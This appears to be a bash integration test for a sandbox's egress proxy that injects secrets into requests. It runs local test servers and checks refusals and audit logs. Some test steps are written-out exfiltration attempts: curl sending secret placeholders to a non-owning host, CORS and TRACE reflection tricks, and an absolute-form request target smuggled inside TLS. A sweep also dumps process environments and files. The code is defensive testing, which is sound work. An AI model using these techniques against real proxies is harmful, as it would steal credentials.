#!/usr/bin/env bash
# Secrets injected by the egress proxy (issue #17, docs/SECRETS.md), on both backends, with
# unmodified curl and Python in a Debian image made by the rootfs builder. Only servers this
# test starts: an "origin host" network namespace joined to the host by a veth, with
#   - good.test: HTTPS (a certificate from a test CA the proxy is told to trust) and plain HTTP;
#   - evil.test: HTTPS with a certificate from a CA nobody trusts;
#   - other.test: plain HTTP, a host no secret is for;
# each recording the request heads it receives (JSON lines). Names resolve through the relay's
# --egress-resolve test seam. Canary values are written to files and grepped with -f, so no
# process of this test ever has one on its command line.
#   SECRETS_BACKENDS="gvisor native" (default: both, gvisor skipped without runsc)
set -u
. "$(dirname "$0")/lib/common.sh"
. "$(dirname "$0")/secrets_attacks.sh"
require_root
require_cmds jq python3 curl ip openssl node
[ -x "$SANDSHIM_BIN" ] || skip_all "sandshim binary not built: $SANDSHIM_BIN"
command -v debootstrap >/dev/null || skip_all "no debootstrap (the test image is debootstrap:bookworm+curl,python3)"

WORK=$(mktemp -d /tmp/sandshim-it.secrets.XXXXXX)
chmod 755 "$WORK"
ROOT=$WORK/root
NET=10.219.$(($$ % 250 + 1))
HOSTIP=$NET.1 GOOD=$NET.10 EVIL=$NET.11 OTHER=$NET.12
TH=sshim-secth-$$ VETH=ssec$$
install_traps
on_exit 'rm -rf "$WORK"'
on_exit 'ip netns del "$TH" 2>/dev/null; ip link del "$VETH" 2>/dev/null'
on_exit 'kill_procs_naming "$WORK"'
on_exit 'for s in $("$SANDSHIM_BIN" --root "$ROOT" session list --json 2>/dev/null | jq -r ".[].id"); do "$SANDSHIM_BIN" --root "$ROOT" session delete "$s" >/dev/null 2>&1; done'
export SANDSHIM_CONFIG=$WORK/config.json
echo "{\"audit_dir\": \"$WORK/audit\"}" >"$SANDSHIM_CONFIG"
leaks_init "$WORK" "$ROOT"

log "test image: debootstrap:bookworm+curl,python3,ca-certificates (cached after the first build)"
IMAGE=$("$SANDSHIM_BIN" rootfs build "debootstrap:bookworm+curl,python3,ca-certificates" 2>"$WORK/image.log") ||
  skip_all "rootfs build failed: $(tail -2 "$WORK/image.log")"

# --- certificates: a trusted test CA for good.test, an untrusted one for evil.test ---------
mkcert() { # NAME HOST: CA NAME signs a certificate for HOST
  local d=$WORK/tls/$1
  mkdir -p "$d"
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=$1 test CA" \
    -keyout "$d/ca.key" -out "$d/ca.pem" 2>/dev/null &&
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$2" -addext "subjectAltName=DNS:$2" \
      -keyout "$d/srv.key" -out "$d/srv.csr" 2>/dev/null &&
    openssl x509 -req -in "$d/srv.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" -CAcreateserial -days 2 \
      -extfile <(printf 'subjectAltName=DNS:%s\nextendedKeyUsage=serverAuth\n' "$2") -out "$d/srv.pem" 2>/dev/null
}
mkcert trusted good.test && mkcert untrusted evil.test || die "test certificates"

# --- the origin host -----------------------------------------------------------------------
cat >"$WORK/origin.py" <<'PY'
import http.server, json, ssl, sys
log, bind, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(log, "a") as f:
            f.write(json.dumps({"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                                "body": body.decode("latin-1")}) + "\n")
        out = b"ORIGIN-OK " + self.path.encode() + b"\n"
        if self.command == "TRACE":  # RFC 9110 9.3.8: the request as received, as the body
            out = (self.requestline + "\r\n" + str(self.headers)).encode("latin-1")
        self.send_response(200)
        # CORS the way common middleware does it (express cors({origin: true})): the
        # request's Origin and Access-Control-Request-Headers come back in the response.
        if self.headers.get("Origin"):
            self.send_header("Access-Control-Allow-Origin", self.headers["Origin"])
        if self.headers.get("Access-Control-Request-Headers"):
            self.send_header("Access-Control-Allow-Headers", self.headers["Access-Control-Request-Headers"])
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_POST = do_TRACE = do_OPTIONS = do_GET
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer((bind, port), H)
if len(sys.argv) > 4:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(sys.argv[4], sys.argv[5])
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
srv.serve_forever()
PY
ip netns add "$TH" || die "ip netns add"
ip link add "$VETH" type veth peer name eth0 netns "$TH" || die "veth"
ip addr add "$HOSTIP/24" dev "$VETH" && ip link set "$VETH" up &&
  for a in $GOOD $EVIL $OTHER; do ip -n "$TH" addr add "$a/24" dev eth0 || exit 1; done &&
  ip -n "$TH" link set eth0 up && ip -n "$TH" link set lo up || die "origin host addresses"
mkdir -p "$WORK/origin"
origin() { ip netns exec "$TH" python3 "$WORK/origin.py" "$@" >>"$WORK/origin/server.log" 2>&1 & }
origin "$WORK/origin/good-http.jsonl" "$GOOD" 8080
origin "$WORK/origin/good-https.jsonl" "$GOOD" 8443 "$WORK/tls/trusted/srv.pem" "$WORK/tls/trusted/srv.key"
origin "$WORK/origin/evil-https.jsonl" "$EVIL" 8443 "$WORK/tls/untrusted/srv.pem" "$WORK/tls/untrusted/srv.key"
origin "$WORK/origin/other-http.jsonl" "$OTHER" 8080
wait_until 10 curl -sf --noproxy '*' "http://$GOOD:8080/up" -o /dev/null || die "good.test HTTP not up"
wait_until 10 curl -sf --noproxy '*' --cacert "$WORK/tls/trusted/ca.pem" --resolve "good.test:8443:$GOOD" \
  https://good.test:8443/up -o /dev/null || die "good.test HTTPS not up"
wait_until 10 curl -sf --noproxy '*' --cacert "$WORK/tls/untrusted/ca.pem" --resolve "evil.test:8443:$EVIL" \
  https://evil.test:8443/up -o /dev/null || die "evil.test HTTPS not up"
wait_until 10 curl -sf --noproxy '*' "http://$OTHER:8080/up" -o /dev/null || die "other.test not up"
start_attack_origins
: >"$WORK/origin/good-http.jsonl"; : >"$WORK/origin/good-https.jsonl"; : >"$WORK/origin/evil-https.jsonl"
: >"$WORK/origin/other-http.jsonl"

# --- canaries: the real values, only ever in files --------------------------------------------
mkdir -p "$WORK/values" && chmod 700 "$WORK/values"
canary() { printf 'canary-%s-%s\n' "$1" "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')" >"$WORK/values/$1"; }
for c in api token evil rotated envonly scoped; do canary "$c"; done
cat "$WORK/values/api" "$WORK/values/token" "$WORK/values/evil" "$WORK/values/rotated" "$WORK/values/scoped" >"$WORK/values/all"
val() { cat "$WORK/values/$1"; }
seen() { grep -qF -f "$WORK/values/$1" "$2"; } # VALUE FILE: the value occurs in FILE

EGRESS=(--network proxy --allow-private --allow-domain good.test --allow-domain evil.test --allow-domain other.test
        --egress-resolve "good.test=$GOOD" --egress-resolve "evil.test=$EVIL" --egress-resolve "other.test=$OTHER")
# API_KEY: a template, HTTPS only (the default). TOKEN: a placeholder in X-Token, opted into plain
# HTTP on the test ports. SCOPED: a template for POST /v1/ over HTTPS only.
TOKEN_HOSTS=good.test:8080,good.test:8081,good.test:8082,good.test:8443,good.test:8444,good.test:8445
SECRETS=(--secret "API_KEY:host=good.test:header=Authorization: Bearer {}" --secret-file "API_KEY=$WORK/values/api"
         --secret "TOKEN:host=$TOKEN_HOSTS,scheme=http,https:header=X-Token" --secret-env TOKEN=SSHIM_IT_TOKEN_SRC
         --secret "SCOPED:host=good.test,path=/v1/,method=POST:header=X-Api-Key: {}" --secret-file "SCOPED=$WORK/values/scoped"
         --secret "EVIL_KEY:host=evil.test:header=X-Key: {}" --secret-fd EVIL_KEY=7
         --secret-trust-bundle "$WORK/tls/trusted/ca.pem")
sx() { "$SANDSHIM_BIN" --root "$ROOT" --backend "$BE" session "$@"; }
create_session() { # ID [EXTRA...]: a session with the three secrets; values from a file, the environment, an fd
  local id=$1; shift
  mkdir -p "$WORK/ws-$id" && chmod 777 "$WORK/ws-$id"
  SSHIM_IT_TOKEN_SRC=$(val token) sx create "$id" --rootfs "$IMAGE" --workspace "$WORK/ws-$id" "${EGRESS[@]}" \
    "${SECRETS[@]}" "$@" 7<"$WORK/values/evil" >/dev/null 2>"$WORK/create-$id.err"
}
inside() { local id=$1; shift; sx exec "$id" -- "$@"; }
last_head() { tail -1 "$WORK/origin/$1.jsonl"; } # the newest request head an origin recorded
audit_of() { cat "$WORK/audit/$1.jsonl" 2>/dev/null; }

# What each backend's session must do; one session per backend, made once.
S_gvisor="" S_native=""
session_for() { # BACKEND: sets SID to the backend's session, making it on first use (not in a subshell)
  local var=S_$1
  if [ -z "${!var}" ]; then
    local id
    id=$(uniq_name "sec-$1")
    BE=$1 create_session "$id" || { REASON="create: $(cat "$WORK/create-$id.err")"; return 1; }
    local got
    got=$("$SANDSHIM_BIN" --root "$ROOT" session inspect --json "$id" | jq -r .backend)
    [ "$got" = "$1" ] || { REASON="asked for $1, got $got"; return 1; }
    printf -v "$var" '%s' "$id"
  fi
  SID=${!var}
}
backend_ok() { [ "$1" != gvisor ] || command -v runsc >/dev/null; }

check_http_injection() { # BACKEND: plain HTTP, curl and python, header template and placeholder
  local BE=$1 id out
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -H "X-Token: $TOKEN" http://good.test:8080/curl-http')
  assert_contains "$out" "ORIGIN-OK /curl-http" "$BE: curl over HTTP reaches the origin" || return
  last_head good-http >"$WORK/h"
  # TLS by default: API_KEY (no scheme=http) never goes into plain HTTP; TOKEN opted in.
  ! seen api "$WORK/h" || return $(fail "$BE: the HTTPS-only API_KEY went into plain HTTP")
  jq -e --rawfile v "$WORK/values/token" '.headers["X-Token"] == ($v | rtrimstr("\n"))' "$WORK/h" >/dev/null ||
    return $(fail "$BE: the TOKEN placeholder was not replaced: $(jq -c .headers "$WORK/h")")
  out=$(inside "$id" python3 -c '
import os, urllib.request
r = urllib.request.Request("http://good.test:8080/py-http", headers={"X-Token": os.environ["TOKEN"]})
print(urllib.request.urlopen(r, timeout=10).read().decode())')
  assert_contains "$out" "ORIGIN-OK /py-http" "$BE: python over HTTP" || return
  last_head good-http >"$WORK/h"
  seen token "$WORK/h" && ! seen api "$WORK/h" || return $(fail "$BE: python's request: TOKEN in, API_KEY out")
  audit_of "$id" >"$WORK/a"
  jq -se '[.[] | select(.decision == "inject" and .host == "good.test" and .path == "/py-http")] |
          (map(.secret) | sort) == ["TOKEN"] and all(.method == "GET")' "$WORK/a" >/dev/null ||
    return $(fail "$BE: no inject audit lines for /py-http: $(grep inject "$WORK/a" | tail -2)")
}

check_https_injection() { # BACKEND: intercepted TLS, curl and python trusting the session CA
  local BE=$1 id out
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  out=$(inside "$id" sh -c 'curl -sS --max-time 10 -H "X-Token: $TOKEN" https://good.test:8443/curl-https 2>&1')
  assert_contains "$out" "ORIGIN-OK /curl-https" "$BE: curl over HTTPS (system bundle)" || return
  last_head good-https >"$WORK/h"
  seen api "$WORK/h" && seen token "$WORK/h" || return $(fail "$BE: the HTTPS origin lacks a value: $(jq -c .headers "$WORK/h")")
  out=$(inside "$id" python3 -c '
import os, urllib.request
r = urllib.request.Request("https://good.test:8443/py-https", data=b"body-bytes", headers={"X-Token": os.environ["TOKEN"]})
print(urllib.request.urlopen(r, timeout=10).read().decode())' 2>&1)
  assert_contains "$out" "ORIGIN-OK /py-https" "$BE: python over HTTPS (SSL_CERT_FILE)" || return
  last_head good-https >"$WORK/h"
  seen token "$WORK/h" && seen api "$WORK/h" || return $(fail "$BE: python's HTTPS request lacks a value")
  assert_eq body-bytes "$(jq -r .body "$WORK/h")" "$BE: the POST body arrives" || return
  # The sandbox trusts the session CA, and the variables name the bundle.
  out=$(inside "$id" sh -c 'echo $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $NODE_EXTRA_CA_CERTS $PIP_CERT $GIT_SSL_CAINFO $CURL_CA_BUNDLE')
  assert_eq "$(printf '/etc/ssl/certs/ca-certificates.crt %.0s' 1 2 3 4 5 6 | sed 's/ $//')" "$out" "$BE: trust variables" || return
  audit_of "$id" >"$WORK/a"
  jq -se '[.[] | select(.decision == "inject" and .path == "/py-https" and .method == "POST")] | length == 2' "$WORK/a" >/dev/null ||
    fail "$BE: no inject audit lines for the HTTPS POST"
}

check_exfiltration_guard() { # BACKEND: a placeholder to another host is refused and audited
  local BE=$1 id out n
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  # Positive control: the same request without the placeholder reaches other.test.
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -H "X-Leak: harmless" http://other.test:8080/control')
  assert_contains "$out" "ORIGIN-OK /control" "$BE: other.test is reachable (control)" || return
  n=$(wc -l <"$WORK/origin/other-http.jsonl")
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -w " %{http_code}" -H "X-Leak: $TOKEN" http://other.test:8080/leak')
  assert_contains "$out" "403" "$BE: placeholder to other.test refused" || return
  assert_contains "$out" "not for this host" "$BE: the refusal says why" || return
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -w " %{http_code}" "http://other.test:8080/q?k=$API_KEY"')
  assert_contains "$out" "403" "$BE: placeholder in the URL refused" || return
  assert_eq "$n" "$(wc -l <"$WORK/origin/other-http.jsonl")" "$BE: nothing reached other.test" || return
  # A placeholder of evil.test's secret sent to good.test (a host with secrets of its own): refused too.
  out=$(inside "$id" sh -c 'curl -s -i --max-time 10 -H "X-Leak: $EVIL_KEY" https://good.test:8443/cross')
  assert_contains "$out" "403" "$BE: another secret's placeholder inside TLS refused" || return
  assert_contains "$out" "X-Sandshim-Rule: secret-exfiltration" "$BE: the refusal inside TLS names the rule" || return
  audit_of "$id" >"$WORK/a"
  jq -se '[.[] | select(.decision == "deny" and .rule == "secret-exfiltration")] | length >= 3' "$WORK/a" >/dev/null ||
    fail "$BE: exfiltration not audited"
}

# The value must never come back to the sandbox: an origin that reflects a request header
# (CORS middleware echoing Origin or Access-Control-Request-Headers, TRACE echoing the whole
# request) would hand the sandbox the value the relay put in. Positive controls: the same
# origin reflects a harmless marker into the sandbox's output, and echoes a TRACE through the
# relay (to a host without secrets). On main before the fix all three leaked, both backends.
check_reflection_readback() { # BACKEND
  local BE=$1 id out leaks=""
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  out=$(inside "$id" sh -c 'curl -s -D- --max-time 10 -H "Origin: reflect-marker" http://good.test:8080/cors-control')
  assert_contains "$out" "Access-Control-Allow-Origin: reflect-marker" "$BE: control: the origin reflects Origin" || return
  inside "$id" sh -c 'curl -s -D- --max-time 10 -H "Origin: $TOKEN" http://good.test:8080/cors' >"$WORK/reflect-$BE" 2>&1
  ! seen token "$WORK/reflect-$BE" || leaks+=" reflected-Origin(HTTP)"
  grep -q "secret-reflection" "$WORK/reflect-$BE" || leaks+=" (Origin not refused as secret-reflection)"
  inside "$id" sh -c 'curl -s -D- --max-time 10 -X OPTIONS -H "Access-Control-Request-Headers: $TOKEN" https://good.test:8443/preflight' \
    >"$WORK/reflect-$BE" 2>&1
  ! seen token "$WORK/reflect-$BE" || leaks+=" CORS-preflight(HTTPS)"
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -X TRACE http://other.test:8080/trace-control' 2>&1)
  assert_contains "$out" "TRACE /trace-control" "$BE: control: a TRACE is echoed through the relay" || return
  inside "$id" sh -c 'curl -s --max-time 10 -X TRACE https://good.test:8443/trace' >"$WORK/reflect-$BE" 2>&1
  ! seen api "$WORK/reflect-$BE" || leaks+=" TRACE-echo-of-the-header-template(HTTPS)"
  [ -z "$leaks" ] || fail "$BE: a secret value came back to the sandbox:$leaks"
}

# Inside an intercepted connection the request line is the client's: an absolute-form target
# ("GET http://other.test/ HTTP/1.1") went to good.test as it was, with good.test's values
# injected. Origins must honour the absolute form over Host (RFC 9112 3.2.2; nginx routes by
# it), so on a shared front end the values reach whichever site the sandbox names: the Host
# binding of plain HTTP (review M2), undone inside TLS. Positive control: the same origin
# records the path of an ordinary request.
check_absolute_form_in_tls() { # BACKEND
  local BE=$1 id out
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  out=$(inside "$id" sh -c 'curl -s --max-time 10 https://good.test:8443/plain-path' 2>&1)
  assert_contains "$out" "ORIGIN-OK /plain-path" "$BE: control: the origin records the path" || return
  assert_eq /plain-path "$(last_head good-https | jq -r .path)" "$BE: control: path as recorded" || return
  out=$(inside "$id" sh -c 'curl -s --max-time 10 --request-target http://other.test:8080/fronted https://good.test:8443/x' 2>&1)
  last_head good-https >"$WORK/h"
  if [ "$(jq -r .path "$WORK/h")" = "http://other.test:8080/fronted" ]; then
    seen api "$WORK/h" && return $(fail "$BE: good.test got 'GET http://other.test:8080/fronted' with the API_KEY value injected")
    return $(fail "$BE: good.test got an absolute-form target naming other.test")
  fi
  assert_not_contains "$out" "ORIGIN-OK" "$BE: the absolute-form request is refused" || return
}

check_untrusted_origin() { # BACKEND: an origin the proxy's trust store does not vouch for
  local BE=$1 id out
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  # Positive control above (setup): evil.test serves HTTPS to a client that trusts its CA.
  out=$(inside "$id" sh -c 'curl -sS --max-time 10 https://evil.test:8443/stolen 2>&1; echo " rc=$?"')
  assert_contains "$out" "502" "$BE: CONNECT to an untrusted origin answered 502" || return
  assert_not_contains "$out" "ORIGIN-OK" "$BE: no answer from the untrusted origin" || return
  [ ! -s "$WORK/origin/evil-https.jsonl" ] || return $(fail "$BE: the untrusted origin got a request")
  audit_of "$id" >"$WORK/a"
  jq -se '[.[] | select(.host == "evil.test" and .rule == "tls-verify" and .status == 502)] | length >= 1' "$WORK/a" >/dev/null ||
    fail "$BE: tls-verify not audited"
}

check_rotation() { # BACKEND: set, rm, and stop/start
  local BE=$1 id out
  backend_ok "$BE" || return $(skip "no runsc")
  session_for "$BE" || return $(fail "$REASON")
  id=$SID
  sx secret set "$id" API_KEY --from-file "$WORK/values/rotated" || return $(fail "$BE: secret set")
  inside "$id" curl -s --max-time 10 https://good.test:8443/after-rotate >/dev/null
  last_head good-https >"$WORK/h"
  seen rotated "$WORK/h" || return $(fail "$BE: the rotated value is not used")
  ! seen api "$WORK/h" || return $(fail "$BE: the old value is still used")
  sx secret rm "$id" TOKEN || return $(fail "$BE: secret rm")
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -w " %{http_code}" -H "X-Token: $TOKEN" http://good.test:8080/unset')
  assert_contains "$out" "403" "$BE: a removed secret's placeholder is refused" || return
  SSHIM_IT_V=$(val token) sx secret set "$id" TOKEN --from-env SSHIM_IT_V || return $(fail "$BE: set from env")
  # Stop and start: the relay restarts without values (they were only in its memory), then gets them again.
  sx stop "$id" >/dev/null && sx start "$id" >/dev/null || return $(fail "$BE: stop/start")
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -w " %{http_code}" -H "X-Token: $TOKEN" http://good.test:8080/restarted')
  assert_contains "$out" "secret TOKEN has no value" "$BE: after start, values must be set again" || return
  sx secret set "$id" TOKEN --from-file "$WORK/values/token" &&
    sx secret set "$id" API_KEY --from-fd 7 7<"$WORK/values/rotated" || return $(fail "$BE: re-set after start")
  out=$(inside "$id" sh -c 'curl -s --max-time 10 -H "X-Token: $TOKEN" https://good.test:8443/re-set')
  assert_contains "$out" "ORIGIN-OK /re-set" "$BE: works again after re-set" || return
  last_head good-https >"$WORK/h"
  seen token "$WORK/h" && seen rotated "$WORK/h" || fail "$BE: re-set values not used"
}

# --- the canary sweep ------------------------------------------------------------------------
# Everything a sandboxed process can read that is not the shared read-only image (grepped on
# the host): every process's environment and command line, and every file in the places a
# session can write or is given (the layer, /tmp, /etc, /root, /home, /run, /var, /workspace).
sandbox_dump() { # ID
  sx exec "$1" -- sh -c 'for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; echo; done 2>/dev/null
    find / -xdev -type f -readable 2>/dev/null | grep -v "^/usr/\|^/proc/\|^/sys/" | head -20000 |
      while read -r f; do cat "$f"; done 2>/dev/null
    for d in /tmp /workspace /etc/ssl/certs /dev/shm /run; do find $d -type f -readable -exec cat {} + 2>/dev/null; done'
}
# Host side: every process's argv and environment, the state root, audit, logs, the image.
host_sweep() { # PATTERNS: prints where any pattern is found
  local p=$1 f
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    grep -qaF -f "$p" "$f" 2>/dev/null && echo "host process $f: $(tr '\0' ' ' <"${f%/*}/cmdline" | head -c 120)"
  done
  grep -rlaF -f "$p" "$ROOT" "$WORK/audit" "$IMAGE/etc" "$WORK/create-"*.err 2>/dev/null | sed 's/^/file /'
  return 0
}
check_canary_positive_control() { # the sweep finds a value given the old way (--env)
  local BE=gvisor id found
  command -v runsc >/dev/null || BE=native
  id=$(uniq_name sec-ctl)
  mkdir -p "$WORK/ws-$id"
  sx create "$id" --rootfs "$IMAGE" --workspace "$WORK/ws-$id" --network proxy -e "LEAKY=$(val envonly)" \
    >/dev/null 2>&1 || return $(fail "control session")
  sandbox_dump "$id" >"$WORK/dump-ctl"
  found=$(host_sweep "$WORK/values/envonly")
  sx delete "$id" >/dev/null
  seen envonly "$WORK/dump-ctl" || return $(fail "the sandbox sweep misses an --env value")
  assert_contains "$found" "config.json" "the host sweep finds an --env value on disk" || return
}
check_canary_sweep() { # no value anywhere, after every other check ran on both backends
  local BE id found
  for BE in gvisor native; do
    backend_ok "$BE" || continue
    session_for "$BE" || return $(fail "$REASON")
  id=$SID
    sandbox_dump "$id" >"$WORK/dump-$BE"
    [ "$(wc -c <"$WORK/dump-$BE")" -gt 100000 ] || return $(fail "$BE: the sandbox dump is too small to mean anything")
    grep -qaF -f "$WORK/values/all" "$WORK/dump-$BE" && return $(fail "$BE: a value is readable inside the sandbox")
    grep -qa "sshim-secret-" "$WORK/dump-$BE" || return $(fail "$BE: no placeholder seen inside (sweep broken?)")
    # The session CA: its certificate is trusted inside, its key stays on the host, private to root.
    local sec=$ROOT/@sessions/$id/secrets
    assert_eq "700 600 600" "$(stat -c %a "$sec" "$sec/ca.key" "$sec/rules.json" | tr '\n' ' ' | sed 's/ $//')" \
      "$BE: secrets directory, CA key and rules are root's only" || return
    sed -n 2p "$sec/ca.key" >"$WORK/ca-key-line"
    [ -s "$WORK/ca-key-line" ] || return $(fail "$BE: no CA key line to look for")
    grep -qaF -f "$WORK/ca-key-line" "$WORK/dump-$BE" && return $(fail "$BE: the CA key is readable inside")
    sed -n 2p "$sec/ca.crt" >"$WORK/ca-cert-line"
    grep -qaF -f "$WORK/ca-cert-line" "$WORK/dump-$BE" || return $(fail "$BE: the CA certificate is not in the sandbox's trust")
  done
  # What sandshim prints about sessions: metrics, inspect, list.
  { "$SANDSHIM_BIN" --root "$ROOT" metrics
    for id in $S_gvisor $S_native; do "$SANDSHIM_BIN" --root "$ROOT" session inspect --json "$id"; done
    "$SANDSHIM_BIN" --root "$ROOT" session list --json; } >"$WORK/printed" 2>&1
  grep -q "sshim_\|sandshim" "$WORK/printed" || return $(fail "metrics/inspect printed nothing: $(head -c 200 "$WORK/printed")")
  grep -qaF -f "$WORK/values/all" "$WORK/printed" && return $(fail "a value in metrics, inspect or list")
  found=$(host_sweep "$WORK/values/all")
  [ -z "$found" ] || fail "values found on the host: $found"
}

check_bad_input() { # one clear line, non-zero, nothing left
  local BE=native out id
  backend_ok gvisor && BE=gvisor
  id=$(uniq_name sec-bad)
  mkdir -p "$WORK/ws-bad"
  try() { # EXPECTED ARGS...: create must fail with one line containing EXPECTED
    local want=$1; shift
    out=$(SSHIM_IT_TOKEN_SRC=x "$SANDSHIM_BIN" --root "$ROOT" --backend "$BE" session create "$id" --rootfs "$IMAGE" \
          --workspace "$WORK/ws-bad" "$@" 2>&1 >/dev/null) && return $(fail "accepted: $*")
    assert_eq 1 "$(printf '%s\n' "$out" | wc -l)" "one line for: $*" || return
    assert_contains "$out" "$want" "message for: $*" || return
    [ ! -e "$ROOT/@sessions/$id" ] || return $(fail "a refused create left its directory: $*")
  }
  try "unknown secret NOPE" "${EGRESS[@]}" --secret "A:host=good.test" --secret-file "A=$WORK/values/api" \
    --secret-file "NOPE=$WORK/values/api" || return
  try "is every host" "${EGRESS[@]}" --secret "A:host=*" --secret-file "A=$WORK/values/api" || return
  try "can never match" "${EGRESS[@]}" --secret "A:host=nowhere.test" --secret-file "A=$WORK/values/api" || return
  try "read $WORK/values/missing" "${EGRESS[@]}" --secret "A:host=good.test" --secret-file "A=$WORK/values/missing" || return
  try "not a regular file" "${EGRESS[@]}" --secret "A:host=good.test" --secret-file "A=$WORK/values" || return
  try "need --network proxy" --secret "A:host=good.test" --secret-file "A=$WORK/values/api" || return
  try "exactly one {}" "${EGRESS[@]}" --secret "A:host=good.test:header=Authorization: Bearer" --secret-file "A=$WORK/values/api" || return
  try "one origins send back" "${EGRESS[@]}" --secret "A:host=good.test:header=Origin: {}" --secret-file "A=$WORK/values/api" || return
  try "one origins send back" "${EGRESS[@]}" --secret "A:host=good.test:header=X_Request_Id" --secret-file "A=$WORK/values/api" || return
  try "must name its port" "${EGRESS[@]}" --secret "A:host=good.test,scheme=http" --secret-file "A=$WORK/values/api" || return
  # A running session: an unknown name for `secret set`, and a value source that is not there.
  local sid
  session_for "$BE" || return $(fail "$REASON")
  sid=$SID
  out=$(sx secret set "$sid" NOPE --from-file "$WORK/values/api" 2>&1) && return $(fail "set of an unknown secret accepted")
  assert_contains "$out" "has no secret NOPE" "secret set: unknown name" || return
  out=$(sx secret set "$sid" TOKEN --from-file "$WORK/values/missing" 2>&1) && return $(fail "an unreadable value accepted")
  assert_contains "$out" "values/missing" "secret set: unreadable file" || return
}

# Red team: the image's CA bundle is read on the host (to add the session CA to it), and
# runsc's gofer opens the bind destination there. A hostile image with a FIFO at that path
# hung `session create` for good (both opens block). Now: created, or refused with one line
# and nothing left, in under 30 s. Positive control: reading that FIFO blocks.
check_fifo_bundle_image() {
  local BE=native id=$(uniq_name sec-fifo) r=$WORK/fifo-rootfs rc
  backend_ok gvisor && BE=gvisor
  mkdir -p "$r/bin" "$r/etc/ssl/certs" "$r/tmp" "$r/proc" "$r/dev" "$r/sys" "$WORK/ws-fifo" && cp /bin/busybox "$r/bin/" &&
    chroot "$r" /bin/busybox --install -s /bin && mkfifo "$r/etc/ssl/certs/ca-certificates.crt" || return $(fail "image")
  timeout 2 cat "$r/etc/ssl/certs/ca-certificates.crt" >/dev/null; rc=$?
  assert_eq 124 "$rc" "control: reading the image's FIFO blocks" || return
  timeout 30 "$SANDSHIM_BIN" --root "$ROOT" --backend "$BE" session create "$id" --rootfs "$r" --workspace "$WORK/ws-fifo" \
    "${EGRESS[@]}" --secret "A:host=good.test" --secret-file "A=$WORK/values/api" >/dev/null 2>"$WORK/fifo.err"; rc=$?
  [ "$rc" != 124 ] || { "$SANDSHIM_BIN" --root "$ROOT" session gc >/dev/null 2>&1; return $(fail "session create hung on the image's FIFO"); }
  if [ "$rc" = 0 ]; then
    "$SANDSHIM_BIN" --root "$ROOT" session delete "$id" >/dev/null || fail "delete"
    return
  fi
  # Refused: one line naming the FIFO, nothing left.
  assert_eq 1 "$(wc -l <"$WORK/fifo.err")" "one line" || return
  assert_contains "$(cat "$WORK/fifo.err")" "FIFO at /etc/ssl/certs/ca-certificates.crt" "the refusal names the FIFO" || return
  [ ! -e "$ROOT/@sessions/$id" ] || fail "the refused create left its directory"
}

check_delete_leaves_nothing() {
  local BE id relay
  for BE in gvisor native; do
    backend_ok "$BE" || continue
    id=${S_gvisor}
    [ "$BE" = native ] && id=$S_native
    [ -n "$id" ] || continue
    relay=$(jq -r .pid "$ROOT/@sessions/$id/relay.pid")
    BE=$BE sx delete "$id" || return $(fail "$BE: delete")
    wait_until 5 sh -c "! kill -0 $relay 2>/dev/null" || return $(fail "$BE: relay outlived delete")
    [ ! -e "$ROOT/@sessions/$id" ] || return $(fail "$BE: session dir left")
  done
  S_gvisor="" S_native=""
  leaks_since_start
}

leaks_baseline
for be in gvisor native; do
  run_check "$be: HTTP: curl and python, header template and placeholder, inject audit" check_http_injection "$be"
  run_check "$be: HTTPS intercepted with the session CA: curl and python, POST body" check_https_injection "$be"
  run_check "$be: exfiltration guard: placeholder to another host refused and audited" check_exfiltration_guard "$be"
  run_check "$be: a value never comes back: reflected Origin, CORS preflight, TRACE echo" check_reflection_readback "$be"
  run_check "$be: inside TLS, a request line naming another host is refused" check_absolute_form_in_tls "$be"
  run_check "$be: untrusted origin certificate refused (502, audited)" check_untrusted_origin "$be"
  run_check "$be: header spellings vs wsgiref and Node, HTTP and HTTPS (controls reflected, placeholders refused)" \
    check_reflection_attacks "$be"
  run_check "$be: scoped secret: other paths, dot segments, methods, overrides, plain HTTP never get it" \
    check_scope_attacks "$be"
  run_check "$be: rotation: set, rm, stop/start then set again" check_rotation "$be"
done
run_check "canary sweep: positive control (--env) is found" check_canary_positive_control
run_check "canary sweep: no value in either sandbox, host processes, state, audit, logs" check_canary_sweep
run_check "bad input: one line, non-zero, nothing left" check_bad_input
run_check "a FIFO for the image's CA bundle does not hang create" check_fifo_bundle_image
run_check "delete leaves nothing" check_delete_leaves_nothing
finish_checks
